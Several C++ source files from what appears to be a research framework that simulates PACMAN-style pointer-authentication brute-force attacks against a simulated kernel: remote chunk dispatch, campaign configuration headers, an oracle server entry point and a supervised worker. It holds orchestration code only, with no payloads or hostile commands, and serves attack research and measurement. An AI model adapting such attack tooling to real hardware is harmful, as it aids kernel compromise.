    for (unsigned attempt = 0; attempt < max_attempts; ++attempt) {
        if (attempt > 0) {
            {
                std::lock_guard<std::mutex> lock(impl_->mu);
                ++impl_->stats.retries;
            }
            std::this_thread::sleep_for(seconds(backoff));
            backoff = std::min(backoff * 2, cfg_.backoffMaxSeconds);
        }

        const std::optional<size_t> picked =
            impl_->pickEndpoint(worker, attempt);
        if (!picked) {
            last_error = "all endpoint breakers open";
            continue;
        }
        const size_t ep = *picked;

        std::unique_ptr<OracleClient> &conn =
            impl_->conns[worker][ep];
        try {
            if (!conn)
                conn = std::make_unique<OracleClient>(
                    impl_->chunkOptions());
            if (!conn->connected())
                conn->connect(cfg_.endpoints[ep]);
            std::string payload = conn->chunkPayload(request_body);
            impl_->markSuccess(ep);
            std::lock_guard<std::mutex> lock(impl_->mu);
            ++impl_->stats.dispatched;
            if (ep != preferred)
                ++impl_->stats.failovers;
            return payload;
        } catch (const WireTimeout &e) {
            last_error = e.what();
            std::lock_guard<std::mutex> lock(impl_->mu);
            ++impl_->stats.timeouts;
        } catch (const BusyExhausted &e) {
            last_error = e.what();
            std::lock_guard<std::mutex> lock(impl_->mu);
            ++impl_->stats.busyExhaustions;
        } catch (const WireError &e) {
            last_error = e.what();
            std::lock_guard<std::mutex> lock(impl_->mu);
            ++impl_->stats.wireErrors;
        }
        // The client already closed the failed connection; record the
        // endpoint strike and move to the next candidate.
        impl_->markFailure(ep);
    }

    throw DispatchError(
        WorkerFaultKind::DispatchExhausted,
        strprintf("[%s] chunk dispatch exhausted %u attempts across "
                  "%zu endpoint(s); last error: %s",
                  workerFaultName(WorkerFaultKind::DispatchExhausted),
                  max_attempts, cfg_.endpoints.size(),
                  last_error.c_str()));
}

DispatchStats
EndpointPool::stats() const
{
    std::lock_guard<std::mutex> lock(impl_->mu);
    return impl_->stats;
}

unsigned
EndpointPool::healthyEndpoints() const
{
    std::lock_guard<std::mutex> lock(impl_->mu);
    unsigned n = 0;
    for (const Impl::Health &h : impl_->health)
        if (!h.open)
            ++n;
    return n;
}

bool
EndpointPool::breakerOpen(size_t index) const
{
    PACMAN_ASSERT(index < impl_->health.size(),
                  "endpoint index out of range");
    std::lock_guard<std::mutex> lock(impl_->mu);
    return impl_->health[index].open;
}

// --- Multi-endpoint campaign runners -------------------------------

BruteForceCampaignResult
runBruteForceCampaignRemote(const BruteForceCampaignConfig &cfg,
                            const DispatchConfig &dispatch)
{
    EndpointPool pool(dispatch, effectiveJobs(cfg.pool.jobs));
    BruteForceCampaignResult result = runBruteForceCampaignWith(
        cfg, [&](unsigned worker, const Chunk &chunk) {
            return pool.chunkPayload(worker,
                                     encodeBfChunkRequest(cfg, chunk));
        });
    result.dispatch = pool.stats();
    return result;
}

AccuracyCampaignResult
runAccuracyCampaignRemote(const AccuracyCampaignConfig &cfg,
                          const DispatchConfig &dispatch)
{
    EndpointPool pool(dispatch, effectiveJobs(cfg.pool.jobs));
    AccuracyCampaignResult result = runAccuracyCampaignWith(
        cfg, [&](unsigned worker, const Chunk &chunk) {
            return pool.chunkPayload(
                worker, encodeAccuracyChunkRequest(cfg, chunk));
        });
    result.dispatch = pool.stats();
    return result;
}

} // namespace pacman::runner
