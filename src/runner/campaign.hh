/**
 * @file
 * Deterministic parallel attack campaigns on top of the work pool
 * (pool.hh): the Section 8.2 PAC brute-force sweep and the
 * Monte-Carlo oracle-accuracy run, both embarrassingly parallel at
 * the work-item level.
 *
 * Each worker owns a private replica slot holding a full
 * Machine / AttackerProcess / PacOracle stack. The replica is
 * re-provisioned per work item: the machine boots from the
 * campaign's machine seed (so every replica draws identical per-boot
 * PAC keys — they are sweeping for the *same* PAC) and then switches
 * its RNG to the stream derived from (campaign_seed, chunk_index).
 * That makes every per-chunk result — verdicts, query counts, even
 * simulated cycle counts — a pure function of the chunk index, which
 * is what lets the merged campaign output be bit-identical at any
 * thread count. See DESIGN.md, "Parallel campaigns".
 */

#ifndef PACMAN_RUNNER_CAMPAIGN_HH
#define PACMAN_RUNNER_CAMPAIGN_HH

#include <cstdint>
#include <string>

#include "attack/bruteforce.hh"
#include "runner/pool.hh"
#include "sim/faults.hh"

namespace pacman::runner
{

/** What each worker replicates per work item. */
struct ReplicaConfig
{
    /** Base machine configuration. Its seed fixes the per-boot PAC
     *  keys, shared by every replica of the campaign. */
    kernel::MachineConfig machine;

    /** Oracle tuning (gadget kind, training iterations, thresholds). */
    attack::OracleConfig oracle;

    /** Target kernel address the oracle is bound to. */
    isa::Addr target = 0;

    /** PAC modifier (salt) for the target. */
    uint64_t modifier = 0;

    /** Oracle samples per candidate (median-of-k; paper: 5). */
    unsigned samples = 1;

    /** Adaptive-resampling ceiling per candidate (0 = fixed
     *  median-of-k; see attack::ResamplePolicy). */
    unsigned maxSamples = 0;

    /** Full re-measurements for still-ambiguous candidates. */
    unsigned candidateRetries = 0;

    /**
     * Fault plan injected into every replica. Injectors are seeded
     * deriveSeed(stream_seed, FaultSeedStream) and attached only
     * after the oracle is provisioned, so set construction and
     * calibration run undisturbed; both the faults and the recovery
     * they trigger stay a pure function of the chunk index.
     */
    FaultPlan faults;
};

/** PAC brute-force sweep over candidates [first, last]. */
struct BruteForceCampaignConfig
{
    ReplicaConfig replica;
    uint16_t first = 0x0000;
    uint16_t last = 0xFFFF;

    /** Campaign seed for the per-item RNG streams (never derived
     *  from thread identity). */
    uint64_t seed = 1;

    PoolConfig pool;
};

/** Deterministically merged brute-force campaign output. */
struct BruteForceCampaignResult
{
    /** Merged stats over exactly the candidates a serial low-to-high
     *  sweep would have tested (early exit at the first hit). */
    attack::BruteForceStats stats;

    /** Per-candidate median-of-k decision miss counts. */
    SampleStat decisionMisses;

    /** Merged oracle robustness counters (same chunk-order merge). */
    attack::OracleStats oracleStats;

    /** Merged injected-fault counters (same chunk-order merge). */
    FaultStats faultStats;

    unsigned jobs = 0;
    uint64_t chunksRun = 0;
    uint64_t chunksSkipped = 0;
    uint64_t chunksMerged = 0;

    /** Host wall-clock seconds; NOT part of the deterministic output. */
    double wallSeconds = 0;

    /**
     * Canonical rendering of every deterministic field. Equal strings
     * across thread counts is the campaign's determinism contract
     * (asserted by tests/runner and bench/parallel_campaign).
     */
    std::string fingerprint() const;
};

BruteForceCampaignResult
runBruteForceCampaign(const BruteForceCampaignConfig &cfg);

/**
 * Monte-Carlo oracle-accuracy campaign (Section 8.2's 50-run
 * TP/FP/FN table): each trial boots a fresh machine — fresh keys —
 * from deriveSeed(seed, trial), sweeps a window guaranteed to
 * contain the true PAC (0 = the full 16-bit space), and grades the
 * outcome against ground truth.
 */
struct AccuracyCampaignConfig
{
    /** Replica template; machine.seed is ignored (per-trial boots). */
    ReplicaConfig replica;

    uint64_t trials = 50;

    /** Candidates swept around the truth; 0 sweeps all 65536. */
    unsigned window = 96;

    uint64_t seed = 1000;

    PoolConfig pool;
};

struct AccuracyCampaignResult
{
    uint64_t truePositives = 0;
    uint64_t falsePositives = 0;
    uint64_t falseNegatives = 0;

    /** Summed search stats across trials. */
    attack::BruteForceStats totals;

    /** Guesses needed per trial (distribution across trials). */
    SampleStat guessesPerTrial;

    /** Summed oracle robustness counters across trials. */
    attack::OracleStats oracleStats;

    /** Summed injected-fault counters across trials. */
    FaultStats faultStats;

    unsigned jobs = 0;
    double wallSeconds = 0; //!< not part of the deterministic output

    /** Canonical rendering of the deterministic fields. */
    std::string fingerprint() const;
};

AccuracyCampaignResult
runAccuracyCampaign(const AccuracyCampaignConfig &cfg);

} // namespace pacman::runner

#endif // PACMAN_RUNNER_CAMPAIGN_HH
