/**
 * @file
 * Deterministic parallel attack campaigns on top of the work pool
 * (pool.hh) and the supervised worker (worker.hh): the Section 8.2
 * PAC brute-force sweep and the Monte-Carlo oracle-accuracy run, both
 * embarrassingly parallel at the work-item level.
 *
 * Each pool worker drives a runner::Worker — a supervised replica
 * provisioned once from the campaign's machine seed (so every replica
 * draws identical per-boot PAC keys) and checkpointed
 * (sim::ReplicaCheckpoint). Per work item the worker restores the
 * checkpoint and switches the machine RNG to the stream derived from
 * (campaign_seed, item_index); accuracy trials additionally rotate
 * the PAC keys via Machine::rekey() with a per-trial key stream.
 * Provisioning is deterministic in the boot seed, so the restored
 * state is exactly the state a fresh construction would reach —
 * every per-item result is a pure function of the item index either
 * way, which is what lets the merged campaign output be bit-identical
 * at any thread count AND across the two provisioning modes.
 * ReplicaConfig::snapshot (or the PACMAN_DISABLE_SNAPSHOT environment
 * variable) selects the fresh-provision reference path, mirroring the
 * fastpath ablation pattern. See DESIGN.md §4c/§4f.
 *
 * Durability (DESIGN.md §4g): with SupervisionConfig::journalPath
 * set, every completed chunk is appended fsync'd to an append-only
 * journal keyed by (campaign_seed, chunk_index), and a campaign
 * restarted with `resume` replays those chunks instead of recomputing
 * them. Because chunk results are serialized bit-exactly (doubles as
 * bit patterns) and merged identically, a killed-and-resumed campaign
 * reports the same fingerprint as an uninterrupted run at any --jobs
 * count — bench/chaos_recovery proves this by killing the process at
 * arbitrary record boundaries. Items the recovery ladder gives up on
 * are quarantined: excluded from the merged statistics, listed (with
 * their seed and fault context) in the result and the quarantine
 * file, and reproducible standalone via replayQuarantine().
 */

#ifndef PACMAN_RUNNER_CAMPAIGN_HH
#define PACMAN_RUNNER_CAMPAIGN_HH

#include <cstdint>
#include <functional>
#include <stdexcept>
#include <string>
#include <vector>

#include "runner/pool.hh"
#include "runner/worker.hh"

namespace pacman::runner
{

/** PAC brute-force sweep over candidates [first, last]. */
struct BruteForceCampaignConfig
{
    ReplicaConfig replica;
    uint16_t first = 0x0000;
    uint16_t last = 0xFFFF;

    /** Campaign seed for the per-item RNG streams (never derived
     *  from thread identity). */
    uint64_t seed = 1;

    PoolConfig pool;

    /** Watchdogs, recovery ladder, journal/resume (worker.hh). */
    SupervisionConfig supervision;
};

/** Deterministically merged brute-force campaign output. */
struct BruteForceCampaignResult
{
    /** Merged stats over exactly the candidates a serial low-to-high
     *  sweep would have tested (early exit at the first hit). */
    attack::BruteForceStats stats;

    /** Per-candidate median-of-k decision miss counts. */
    SampleStat decisionMisses;

    /** Merged oracle robustness counters (same chunk-order merge). */
    attack::OracleStats oracleStats;

    /** Merged injected-fault counters (same chunk-order merge). */
    FaultStats faultStats;

    /**
     * Quarantined chunks (chunk order, same merge cutoff). Their
     * statistics are excluded from the merged counters above — the
     * ladder never completed them — but the quarantine list itself is
     * deterministic and part of the fingerprint: a deterministic
     * failure (an injected wedge caught by the guest-cycle budget)
     * quarantines the same chunks at every --jobs count.
     */
    std::vector<QuarantineRecord> quarantined;

    /** Summed recovery-ladder counters across workers. NOT part of
     *  the fingerprint: host-deadline firings are wall-clock events,
     *  and a resumed run skips recovered chunks entirely. */
    RecoveryStats recovery;

    /** Endpoint failover counters for remote campaigns (dispatch.hh);
     *  all-zero for local runs. NOT part of the fingerprint: which
     *  endpoint served a chunk is a wall-clock accident that never
     *  changes the payload. */
    DispatchStats dispatch;

    unsigned jobs = 0;
    uint64_t chunksRun = 0;
    uint64_t chunksSkipped = 0;
    uint64_t chunksMerged = 0;

    /** Chunks replayed from the journal instead of recomputed (0 in
     *  a fresh run; not part of the fingerprint). */
    uint64_t chunksResumed = 0;

    /** Host wall-clock seconds; NOT part of the deterministic output. */
    double wallSeconds = 0;

    /**
     * Canonical rendering of every deterministic field. Equal strings
     * across thread counts — and across kill/resume boundaries — is
     * the campaign's determinism contract (asserted by tests/runner,
     * bench/parallel_campaign and bench/chaos_recovery).
     */
    std::string fingerprint() const;
};

/**
 * Produce one chunk's encoded result payload (chunk_codec.hh format)
 * on pool worker slot @p worker. The campaign runners are
 * parameterized on this so in-process execution (executeBfChunk
 * against a local runner::Worker) and remote execution (a CHUNK
 * request to pacman-oracled, client.hh) merge byte-identical
 * payloads — the dispatcher is the only thing that varies.
 */
using ChunkDispatcher =
    std::function<std::string(unsigned worker, const Chunk &chunk)>;

/**
 * A campaign stopped before completion because a dispatcher failed
 * (e.g. the oracle server connection dropped) or returned an
 * undecodable payload. Chunks finished before the abort are already
 * journaled, so a resume recomputes only what is missing.
 */
struct CampaignAborted : std::runtime_error
{
    using std::runtime_error::runtime_error;
};

BruteForceCampaignResult
runBruteForceCampaign(const BruteForceCampaignConfig &cfg);

/** Run the campaign with chunk execution delegated to @p dispatch
 *  (journal resume/record and the merge stay here). Throws
 *  CampaignAborted if any dispatch fails. */
BruteForceCampaignResult
runBruteForceCampaignWith(const BruteForceCampaignConfig &cfg,
                          const ChunkDispatcher &dispatch);

/**
 * Monte-Carlo oracle-accuracy campaign (Section 8.2's 50-run
 * TP/FP/FN table): each trial gets fresh PAC keys — via
 * Machine::rekey() from a per-trial key stream, the checkpointed
 * equivalent of a fresh boot — sweeps a window guaranteed to contain
 * the true PAC (0 = the full 16-bit space), and grades the outcome
 * against ground truth.
 */
struct AccuracyCampaignConfig
{
    /** Replica template; machine.seed is the shared provision seed
     *  (per-trial key freshness comes from rekey, not reboot). */
    ReplicaConfig replica;

    uint64_t trials = 50;

    /** Candidates swept around the truth; 0 sweeps all 65536. */
    unsigned window = 96;

    uint64_t seed = 1000;

    PoolConfig pool;

    /** Watchdogs, recovery ladder, journal/resume (worker.hh). */
    SupervisionConfig supervision;
};

struct AccuracyCampaignResult
{
    uint64_t truePositives = 0;
    uint64_t falsePositives = 0;
    uint64_t falseNegatives = 0;

    /** Summed search stats across trials. */
    attack::BruteForceStats totals;

    /** Guesses needed per trial (distribution across trials). */
    SampleStat guessesPerTrial;

    /** Summed oracle robustness counters across trials. */
    attack::OracleStats oracleStats;

    /** Summed injected-fault counters across trials. */
    FaultStats faultStats;

    /** Quarantined trials (trial order); excluded from the verdict
     *  counts and totals, included in the fingerprint. */
    std::vector<QuarantineRecord> quarantined;

    /** Summed recovery-ladder counters; not in the fingerprint. */
    RecoveryStats recovery;

    /** Endpoint failover counters for remote campaigns (dispatch.hh);
     *  all-zero for local runs, never in the fingerprint. */
    DispatchStats dispatch;

    unsigned jobs = 0;

    /** Chunks replayed from the journal (not in the fingerprint). */
    uint64_t chunksResumed = 0;

    double wallSeconds = 0; //!< not part of the deterministic output

    /** Canonical rendering of the deterministic fields. */
    std::string fingerprint() const;
};

AccuracyCampaignResult
runAccuracyCampaign(const AccuracyCampaignConfig &cfg);

/** Dispatcher-parameterized variant (see runBruteForceCampaignWith). */
AccuracyCampaignResult
runAccuracyCampaignWith(const AccuracyCampaignConfig &cfg,
                        const ChunkDispatcher &dispatch);

/**
 * Re-run one quarantined work item standalone, away from its
 * campaign: rebuilds a worker from the campaign's replica and
 * supervision configuration (journal fields ignored) and replays the
 * item from the record's seeds. Every stream re-derives from the
 * recorded values, so a deterministic failure reproduces identically
 * — the returned outcome reports the same classification the
 * campaign quarantined the item under.
 */
WorkOutcome replayQuarantine(const BruteForceCampaignConfig &cfg,
                             const QuarantineRecord &record);
WorkOutcome replayQuarantine(const AccuracyCampaignConfig &cfg,
                             const QuarantineRecord &record);

} // namespace pacman::runner

#endif // PACMAN_RUNNER_CAMPAIGN_HH
