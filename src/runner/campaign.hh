/**
 * @file
 * Deterministic parallel attack campaigns on top of the work pool
 * (pool.hh): the Section 8.2 PAC brute-force sweep and the
 * Monte-Carlo oracle-accuracy run, both embarrassingly parallel at
 * the work-item level.
 *
 * Each worker owns a private replica slot holding a full
 * Machine / AttackerProcess / PacOracle stack, provisioned once —
 * boot from the campaign's machine seed (so every replica draws
 * identical per-boot PAC keys), guest-program assembly, eviction-set
 * build, target binding and calibration — and checkpointed
 * (sim::ReplicaCheckpoint) immediately afterwards. Per work item the
 * worker restores the checkpoint and switches the machine RNG to the
 * stream derived from (campaign_seed, item_index); accuracy trials
 * additionally rotate the PAC keys via Machine::rekey() with a
 * per-trial key stream. Provisioning is deterministic in the boot
 * seed, so the restored state is exactly the state a fresh
 * construction would reach — every per-item result is a pure
 * function of the item index either way, which is what lets the
 * merged campaign output be bit-identical at any thread count AND
 * across the two provisioning modes. ReplicaConfig::snapshot (or the
 * PACMAN_DISABLE_SNAPSHOT environment variable) selects the
 * fresh-provision reference path, mirroring the fastpath ablation
 * pattern. See DESIGN.md §4c/§4f.
 */

#ifndef PACMAN_RUNNER_CAMPAIGN_HH
#define PACMAN_RUNNER_CAMPAIGN_HH

#include <cstdint>
#include <string>

#include "attack/bruteforce.hh"
#include "runner/pool.hh"
#include "sim/faults.hh"

namespace pacman::runner
{

/**
 * Default for ReplicaConfig::snapshot: true unless the
 * PACMAN_DISABLE_SNAPSHOT environment variable is set (to anything).
 * Read once per process.
 */
bool snapshotReplicasDefault();

/** What each worker's replica is provisioned with. */
struct ReplicaConfig
{
    /** Base machine configuration. Its seed fixes the per-boot PAC
     *  keys, shared by every replica of the campaign. */
    kernel::MachineConfig machine;

    /** Oracle tuning (gadget kind, training iterations, thresholds). */
    attack::OracleConfig oracle;

    /** Target kernel address the oracle is bound to. */
    isa::Addr target = 0;

    /** PAC modifier (salt) for the target. */
    uint64_t modifier = 0;

    /** Oracle samples per candidate (median-of-k; paper: 5). */
    unsigned samples = 1;

    /** Adaptive-resampling ceiling per candidate (0 = fixed
     *  median-of-k; see attack::ResamplePolicy). */
    unsigned maxSamples = 0;

    /** Full re-measurements for still-ambiguous candidates. */
    unsigned candidateRetries = 0;

    /**
     * Fault plan injected into every replica. Injectors are seeded
     * deriveSeed(stream_seed, FaultSeedStream) and attached only
     * after the oracle is provisioned, so set construction and
     * calibration run undisturbed; both the faults and the recovery
     * they trigger stay a pure function of the chunk index.
     */
    FaultPlan faults;

    /**
     * Provision-once / restore-per-item checkpointing (the fast
     * path). When false, each work item reconstructs the replica from
     * scratch — the slow reference path the snapshot equivalence
     * tests compare against. Either way the per-item results are
     * bit-identical; only wall-clock time differs.
     */
    bool snapshot = snapshotReplicasDefault();
};

/** PAC brute-force sweep over candidates [first, last]. */
struct BruteForceCampaignConfig
{
    ReplicaConfig replica;
    uint16_t first = 0x0000;
    uint16_t last = 0xFFFF;

    /** Campaign seed for the per-item RNG streams (never derived
     *  from thread identity). */
    uint64_t seed = 1;

    PoolConfig pool;
};

/** Deterministically merged brute-force campaign output. */
struct BruteForceCampaignResult
{
    /** Merged stats over exactly the candidates a serial low-to-high
     *  sweep would have tested (early exit at the first hit). */
    attack::BruteForceStats stats;

    /** Per-candidate median-of-k decision miss counts. */
    SampleStat decisionMisses;

    /** Merged oracle robustness counters (same chunk-order merge). */
    attack::OracleStats oracleStats;

    /** Merged injected-fault counters (same chunk-order merge). */
    FaultStats faultStats;

    unsigned jobs = 0;
    uint64_t chunksRun = 0;
    uint64_t chunksSkipped = 0;
    uint64_t chunksMerged = 0;

    /** Host wall-clock seconds; NOT part of the deterministic output. */
    double wallSeconds = 0;

    /**
     * Canonical rendering of every deterministic field. Equal strings
     * across thread counts is the campaign's determinism contract
     * (asserted by tests/runner and bench/parallel_campaign).
     */
    std::string fingerprint() const;
};

BruteForceCampaignResult
runBruteForceCampaign(const BruteForceCampaignConfig &cfg);

/**
 * Monte-Carlo oracle-accuracy campaign (Section 8.2's 50-run
 * TP/FP/FN table): each trial gets fresh PAC keys — via
 * Machine::rekey() from a per-trial key stream, the checkpointed
 * equivalent of a fresh boot — sweeps a window guaranteed to contain
 * the true PAC (0 = the full 16-bit space), and grades the outcome
 * against ground truth.
 */
struct AccuracyCampaignConfig
{
    /** Replica template; machine.seed is the shared provision seed
     *  (per-trial key freshness comes from rekey, not reboot). */
    ReplicaConfig replica;

    uint64_t trials = 50;

    /** Candidates swept around the truth; 0 sweeps all 65536. */
    unsigned window = 96;

    uint64_t seed = 1000;

    PoolConfig pool;
};

struct AccuracyCampaignResult
{
    uint64_t truePositives = 0;
    uint64_t falsePositives = 0;
    uint64_t falseNegatives = 0;

    /** Summed search stats across trials. */
    attack::BruteForceStats totals;

    /** Guesses needed per trial (distribution across trials). */
    SampleStat guessesPerTrial;

    /** Summed oracle robustness counters across trials. */
    attack::OracleStats oracleStats;

    /** Summed injected-fault counters across trials. */
    FaultStats faultStats;

    unsigned jobs = 0;
    double wallSeconds = 0; //!< not part of the deterministic output

    /** Canonical rendering of the deterministic fields. */
    std::string fingerprint() const;
};

AccuracyCampaignResult
runAccuracyCampaign(const AccuracyCampaignConfig &cfg);

} // namespace pacman::runner

#endif // PACMAN_RUNNER_CAMPAIGN_HH
