/**
 * @file
 * pacman-oracled entry point: parse deployment flags, run the
 * PAC-oracle server (server.hh) until SIGTERM/SIGINT or a client
 * DRAIN request, drain gracefully, and optionally dump the final
 * pacman-bench-v1 metrics document.
 */

#include <csignal>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <fstream>
#include <string>
#include <thread>

#include "runner/server.hh"

namespace
{

volatile std::sig_atomic_t g_stop = 0;

void
onSignal(int)
{
    g_stop = 1;
}

void
usage(const char *argv0)
{
    std::fprintf(
        stderr,
        "usage: %s --socket PATH [options]\n"
        "\n"
        "Serve PAC-oracle queries and campaign chunks from a pool of\n"
        "checkpointed replicas (wire protocol: DESIGN.md Sec. 4h).\n"
        "\n"
        "  --socket PATH          Unix listening socket (required)\n"
        "  --tcp-port N           also listen on 127.0.0.1:N\n"
        "                         (1 = pick an ephemeral port)\n"
        "  --threads N            service threads / live replicas [2]\n"
        "  --max-queue N          admission-control queue depth [64]\n"
        "  --allow-truth          enable the TRUTH verb (grading)\n"
        "  --crash-after-chunks N chaos: _Exit(137) after the N-th\n"
        "                         chunk response (tests only)\n"
        "  --metrics-out PATH     write final metrics JSON on exit\n",
        argv0);
}

} // anonymous namespace

int
main(int argc, char **argv)
{
    pacman::runner::ServerConfig cfg;
    std::string metrics_out;

    for (int i = 1; i < argc; ++i) {
        const std::string arg = argv[i];
        auto next = [&]() -> const char * {
            if (i + 1 >= argc) {
                std::fprintf(stderr, "%s needs a value\n", arg.c_str());
                std::exit(2);
            }
            return argv[++i];
        };
        if (arg == "--socket") {
            cfg.socketPath = next();
        } else if (arg == "--tcp-port") {
            cfg.tcpPort = uint16_t(std::strtoul(next(), nullptr, 10));
        } else if (arg == "--threads") {
            cfg.threads = unsigned(std::strtoul(next(), nullptr, 10));
        } else if (arg == "--max-queue") {
            cfg.maxQueue = unsigned(std::strtoul(next(), nullptr, 10));
        } else if (arg == "--allow-truth") {
            cfg.allowTruth = true;
        } else if (arg == "--crash-after-chunks") {
            cfg.crashAfterChunks =
                std::strtoull(next(), nullptr, 10);
        } else if (arg == "--metrics-out") {
            metrics_out = next();
        } else if (arg == "--help" || arg == "-h") {
            usage(argv[0]);
            return 0;
        } else {
            std::fprintf(stderr, "unknown option: %s\n", arg.c_str());
            usage(argv[0]);
            return 2;
        }
    }
    if (cfg.socketPath.empty()) {
        usage(argv[0]);
        return 2;
    }

    std::signal(SIGTERM, onSignal);
    std::signal(SIGINT, onSignal);

    pacman::runner::OracleServer server(cfg);
    server.start();
    if (cfg.tcpPort != 0) {
        std::printf("pacman-oracled: listening on %s and "
                    "127.0.0.1:%u\n",
                    cfg.socketPath.c_str(), server.boundTcpPort());
    } else {
        std::printf("pacman-oracled: listening on %s\n",
                    cfg.socketPath.c_str());
    }
    std::fflush(stdout);

    while (g_stop == 0 && !server.draining())
        std::this_thread::sleep_for(std::chrono::milliseconds(100));

    std::printf("pacman-oracled: draining\n");
    std::fflush(stdout);
    server.requestDrain();
    server.waitDrained();

    if (!metrics_out.empty()) {
        std::ofstream out(metrics_out, std::ios::trunc);
        out << server.metricsJson() << "\n";
    }
    std::printf("pacman-oracled: drained, exiting\n");
    return 0;
}
