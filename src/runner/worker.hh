/**
 * @file
 * The supervised, scheduler-agnostic campaign worker
 * (DESIGN.md §4g).
 *
 * A Worker owns one replica — a private Machine / AttackerProcess /
 * PacOracle stack, provisioned once and checkpointed
 * (sim::ReplicaCheckpoint) — and executes work through a stable
 * request/response boundary: the caller supplies a WorkRequest (the
 * item's identity and seeds; never thread identity) and a WorkFn
 * (what to compute), and receives a WorkOutcome. Nothing in the
 * boundary references the pool, chunking, or threads, which is
 * exactly the seam a long-lived oracle-as-a-service scheduler needs:
 * any dispatcher that can produce WorkRequests can drive a Worker.
 *
 * Supervision (all opt-in via SupervisionConfig):
 *
 *  - watchdogs: per-item guest-cycle and host-deadline budgets,
 *    checked at every fault opportunity (the injectNoise() markers
 *    between attack steps), abandoning the attempt with a classified
 *    WorkerError;
 *  - an escalating recovery ladder: rung 1 rewinds the checkpoint,
 *    verifies the replica's state fingerprint against the
 *    provisioning fingerprint (sim/fingerprint.hh) and the attack
 *    runtime's own integrity check, and retries; rung 2 rebuilds the
 *    whole stack from configuration; rung 3 gives up and reports the
 *    item for quarantine;
 *  - classification per base/supervision.hh: budget overruns are
 *    Hangs, fingerprint mismatches ReplicaCorrupt, failures that
 *    clear on retry TransientFaults, and items that fail a fresh
 *    replica PoisonedItems.
 *
 * Determinism: an item is a pure function of (config, seeds); a
 * restore is bit-exact (PR 4) and a fresh provision reaches the same
 * state, so a retry on any rung either reproduces the identical
 * result or the identical deterministic failure. Supervised
 * campaigns therefore stay bit-identical at every --jobs count, with
 * wall-clock-triggered retries affecting only latency.
 */

#ifndef PACMAN_RUNNER_WORKER_HH
#define PACMAN_RUNNER_WORKER_HH

#include <cstdint>
#include <functional>
#include <memory>
#include <optional>
#include <string>

#include "attack/bruteforce.hh"
#include "base/supervision.hh"
#include "sim/faults.hh"

namespace pacman::runner
{

/**
 * Default for ReplicaConfig::snapshot: true unless the
 * PACMAN_DISABLE_SNAPSHOT environment variable is set (to anything).
 * Read once per process.
 */
bool snapshotReplicasDefault();

/** What each worker's replica is provisioned with. */
struct ReplicaConfig
{
    /** Base machine configuration. Its seed fixes the per-boot PAC
     *  keys, shared by every replica of the campaign. */
    kernel::MachineConfig machine;

    /** Oracle tuning (gadget kind, training iterations, thresholds). */
    attack::OracleConfig oracle;

    /** Target kernel address the oracle is bound to. */
    isa::Addr target = 0;

    /** PAC modifier (salt) for the target. */
    uint64_t modifier = 0;

    /** Oracle samples per candidate (median-of-k; paper: 5). */
    unsigned samples = 1;

    /** Adaptive-resampling ceiling per candidate (0 = fixed
     *  median-of-k; see attack::ResamplePolicy). */
    unsigned maxSamples = 0;

    /** Full re-measurements for still-ambiguous candidates. */
    unsigned candidateRetries = 0;

    /**
     * Fault plan injected into every replica. Injectors are seeded
     * deriveSeed(stream_seed, FaultSeedStream) and attached only
     * after the oracle is provisioned, so set construction and
     * calibration run undisturbed; both the faults and the recovery
     * they trigger stay a pure function of the chunk index.
     */
    FaultPlan faults;

    /**
     * Provision-once / restore-per-item checkpointing (the fast
     * path). When false, each work item reconstructs the replica from
     * scratch — the slow reference path the snapshot equivalence
     * tests compare against; the recovery ladder then has no rung 1
     * (there is no checkpoint to rewind) and escalates straight to
     * re-provisioning. Either way the per-item results are
     * bit-identical; only wall-clock time differs.
     */
    bool snapshot = snapshotReplicasDefault();
};

/** Supervision knobs for a campaign's workers. */
struct SupervisionConfig
{
    /** Per-item execution budgets (0 = no watchdog). */
    ItemBudget budget;

    /**
     * Verify the replica's state fingerprint (and the attack
     * runtime's routine integrity) against the provisioning
     * fingerprint before a rung-1 retry. Costs one fingerprint at
     * provisioning time plus one per ladder escalation.
     */
    bool verifyFingerprint = true;

    /**
     * Durable campaign journal path; empty disables journaling.
     * Chunk-completion records are appended fsync'd and keyed by
     * (campaign_seed, chunk_index), so a killed campaign process
     * resumes mid-campaign (see `resume`) with bit-identical merged
     * output.
     */
    std::string journalPath;

    /** Replay completed chunks from the journal instead of
     *  recomputing them. Requires journalPath. */
    bool resume = false;

    /**
     * Quarantine-record sink; empty derives "<journalPath>.quarantine"
     * when journaling, else quarantines are only reported in the
     * campaign result.
     */
    std::string quarantinePath;

    /** Chaos-test hook, forwarded to Journal::crashAfterAppends():
     *  _Exit(137) after the n-th fsync'd record. 0 disables. */
    uint64_t crashAfterAppends = 0;

    /** Resolved quarantine path (may be empty = none). */
    std::string
    effectiveQuarantinePath() const
    {
        if (!quarantinePath.empty())
            return quarantinePath;
        if (!journalPath.empty())
            return journalPath + ".quarantine";
        return {};
    }
};

/** One work item, identified by seeds — never by thread. */
struct WorkRequest
{
    /** Chunk/trial index (quarantine bookkeeping only). */
    uint64_t itemIndex = 0;

    /** The item's main RNG stream (Machine::reseedRng). */
    uint64_t streamSeed = 0;

    /** Per-trial PAC-key rotation stream, if the item wants fresh
     *  keys (accuracy campaigns). */
    std::optional<uint64_t> rekeySeed;
};

/** The work itself, run against the prepared replica. */
using WorkFn =
    std::function<void(attack::PacOracle &oracle,
                       kernel::Machine &machine)>;

/** The supervisor's verdict on one request. */
struct WorkOutcome
{
    /** False when every ladder rung failed (item quarantined). */
    bool completed = true;

    /** Set iff !completed: the classification to quarantine under. */
    std::optional<WorkerFaultKind> quarantined;

    /** Failure context (first and last error) for the record. */
    std::string detail;

    /** Executions attempted (1 = clean first run). */
    unsigned attempts = 1;
};

/** A supervised single-replica worker. */
class Worker
{
  public:
    /** Validates cfg.faults (FaultPlan::validate; throws
     *  std::invalid_argument on a malformed plan). Provisioning is
     *  lazy — the first run() (or oracle()/machine() access) pays it. */
    Worker(const ReplicaConfig &cfg, const SupervisionConfig &sup);
    ~Worker();

    Worker(const Worker &) = delete;
    Worker &operator=(const Worker &) = delete;

    /**
     * Execute one work item under supervision: prepare the replica
     * for the request (checkpoint rewind or fresh provision, optional
     * rekey, stream switch, fault-injector arming), arm the
     * watchdogs, run @p fn, and walk the recovery ladder on failure.
     * WorkerErrors are absorbed into the outcome; any other exception
     * (a simulator bug) propagates.
     */
    WorkOutcome run(const WorkRequest &req, const WorkFn &fn);

    /** Injected-fault counters from the most recent attempt. */
    FaultStats faultStats() const;

    /** Ladder counters over this worker's lifetime. */
    const RecoveryStats &recovery() const { return recovery_; }

    /** Replica stacks built (1 + ladder re-provisions; every item in
